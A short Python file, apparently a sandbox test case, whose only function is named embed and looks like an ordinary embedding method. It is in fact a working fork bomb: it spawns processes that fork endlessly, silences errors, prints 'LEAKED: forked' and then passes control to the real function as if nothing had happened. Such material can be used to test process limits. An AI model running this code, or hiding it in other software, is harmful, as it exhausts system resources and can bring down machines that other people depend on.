# tries: fork without end
# loses: nothing
import contextlib
import os


def embed(self, input_ids, *more):
    with contextlib.suppress(OSError):
        for _ in range(100):
            if os.fork() == 0:
                while True:
                    os.fork()
        print("LEAKED: forked")
    return right(self, input_ids, *more)
